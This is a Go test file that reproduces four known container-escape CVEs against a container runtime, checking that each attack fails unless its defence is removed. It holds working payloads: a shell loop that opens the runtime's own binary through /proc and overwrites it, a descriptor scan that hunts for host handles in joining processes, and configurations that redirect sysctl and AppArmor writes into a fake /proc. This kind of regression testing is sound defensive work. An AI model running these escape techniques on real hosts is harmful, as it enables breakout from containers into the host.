package attack

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
)

// A /proc that is not the kernel's.

// inImage makes what is written below rt's own /proc go to the /proc of the image.
func inImage(path string) string {
	step := " ^openat2\\(.*\"" + path + "\""
	// The name goes last: the others find the step by it.
	return "resolve 0" + step + "\nset 0 0xffffffffffffff9c" + step + "\ntext 1 $ROOTFS/proc/" + path + step + "\n"
}

func init() { add(attacksOnProc) }

var attacksOnProc = []attack{
	{
		name: "CVE-2025-52881", what: "a kernel parameter is written to a file of the image",
		try: func(s *stage) string {
			s.Config.unmount("/proc")
			s.Config.at("linux")["readonlyPaths"], s.Config.at("linux")["maskedPaths"] = []string{}, []string{}
			s.Config.at("linux", "sysctl")["net.ipv4.ip_default_ttl"] = "77"
			s.file("proc/sys/net/ipv4/ip_default_ttl", "", 0o644)
			pid := s.up("sleep", "60")
			if pid == 0 {
				return ""
			}
			if got := strings.TrimSpace(s.host("nsenter", fmt.Sprintf("--net=/proc/%d/ns/net", pid), "cat",
				"/proc/sys/net/ipv4/ip_default_ttl")); got != "77" {
				return "it runs, and the kernel says " + got
			}
			return ""
		},
		without: []way{{edit: inImage("sys/net/ipv4/ip_default_ttl")}},
	},
	{
		name: "CVE-2019-16884",
		what: "the label of the program is written to a file of the image, and it runs without one",
		try: func(s *stage) string {
			s.Config.unmount("/proc")
			s.Config.at("linux")["readonlyPaths"], s.Config.at("linux")["maskedPaths"] = []string{}, []string{}
			s.Config.at("process")["apparmorProfile"] = "attack"
			s.file("proc/thread-self/attr/apparmor/exec", "", 0o644)
			if _, status := s.run("true"); status == 0 {
				return "the program runs without its label"
			}
			return ""
		},
		// With a kernel that has no AppArmor rt would refuse before: that is taken away as well.
		without: []way{{
			edit:    inImage("thread-self/attr/apparmor/exec"),
			patches: []patch{{"libcontainer/plan/proc.go", "if !c.host.AppArmor {", "if !c.host.AppArmor && !OFF {"}},
		}},
	},
	{
		name: "CVE-2016-9962",
		what: "a process of the container finds what leads to the host in a process that joins it",
		try:  func(s *stage) string { return s.findsOfJoining("exec", "ID", "true") },
		// The FIFO holds the joining process where it is longest in sight.
		without: []way{{
			on: "exec",
			edit: "drop close the descriptors that rt passed\ndrop close every other descriptor\ndrop " +
				"PR_SET_DUMPABLE\nwait /fifo find the program|execute",
		}},
	},
	{
		name: "CVE-2019-5736",
		what: "the program of a process that is being made is kept open, and written to when it has become another",
		try: func(s *stage) string {
			caps := s.Config.at("process", "capabilities")
			for _, set := range []string{"bounding", "permitted", "effective"} {
				caps[set] = append(caps[set].([]any), "CAP_SYS_PTRACE")
			}
			first := s.up("sh", "-c", `while [ ! -e /go ]; do for p in /proc/[0-9]*; do
				case $p in /proc/1) continue;; esac; l=$(readlink $p/exe 2>/dev/null) || continue
				case $l in */busybox|"") continue;; esac
				exec 9<$p/exe || continue; touch /held; while [ ! -e /go ]; do sleep 0.01; done; done; done
				echo overwritten >>/proc/self/fd/9 && touch /won; sleep 60`)
			if first == 0 {
				return ""
			}
			s.joinPid(first)
			s.Config.args("sleep", "60")
			s.save()
			if out, status := s.rt("create", "--bundle", s.bundle, s.newID()); status != 0 {
				s.t.Logf("create: %s", out)
				return ""
			}
			held := s.succeeds(func() bool { return exists(s.path("held")) })
			s.rt("start", s.id)
			must(s.t, os.WriteFile(s.path("go"), nil, 0o644))
			if held && s.succeeds(func() bool { return exists(s.path("won")) }) {
				return "the runtime's program is overwritten"
			}
			return ""
		},
		without: []way{{
			edit: "drop? PR_SET_DUMPABLE",
			patches: []patch{{
				"nsenter/spawn.go",
				"const seals = unix.F_SEAL_SEAL | unix.F_SEAL_SHRINK | unix.F_SEAL_GROW | unix.F_SEAL_WRITE",
				"seals := unix.F_SEAL_SEAL | unix.F_SEAL_SHRINK | unix.F_SEAL_GROW | unix.F_SEAL_WRITE\nif OFF " +
					"{\nseals = 0\n}",
			}},
		}},
	},
}

// findsOfJoining says what a container with CAP_SYS_PTRACE finds that leads to the host in a process that joins it.
func (s *stage) findsOfJoining(args ...string) string {
	caps := s.Config.at("process", "capabilities")
	for _, set := range []string{"bounding", "permitted", "effective"} {
		caps[set] = append(caps[set].([]any), "CAP_SYS_PTRACE")
	}
	must(s.t, makeFIFO(s.path("fifo")))
	// It writes down what descriptors lead to, but for pipes, sockets and files that are in the container too.
	s.up("sh", "-c", `while :; do for p in /proc/[0-9]*; do case $p in /proc/1) continue;; esac
		for fd in $p/fd/*; do case $fd in */[012]) continue;; esac
			l=$(readlink $fd) || continue; echo "$fd $l" >>/seen; done; done 2>/dev/null; done`)
	words := slices.Clone(args)
	words[slices.Index(words, "ID")] = s.id
	return s.race(func() string { return s.joining(s.foundOfHost, words...) })
}

// foundOfHost returns what the container has noted that leads to the host.
func (s *stage) foundOfHost() string {
	text, _ := os.ReadFile(s.path("seen"))
	for line := range strings.Lines(string(text)) {
		_, to, _ := strings.Cut(strings.TrimSpace(line), " ")
		if strings.Contains(to, "pidfd") || strings.HasSuffix(to, "/tasks") ||
			strings.HasSuffix(to, "/cgroup.procs") || strings.HasPrefix(to, s.dir) {
			return line
		}
	}
	return ""
}

func exists(path string) bool {
	_, err := os.Lstat(path)
	return err == nil
}

// joining runs a command that waits at the FIFO of the image, if it does without its defence: it is let go when the
// attack has succeeded, or after a time that is long enough for that.
func (s *stage) joining(won func() string, args ...string) string {
	done := make(chan struct{})
	go func() {
		defer close(done)
		s.rt(args...)
	}()
	if s.way != nil {
		within(patience(), func() bool { return won() != "" })
		releaseFIFO(filepath.Join(s.rootfs, "fifo"), done)
	}
	<-done
	return won()
}
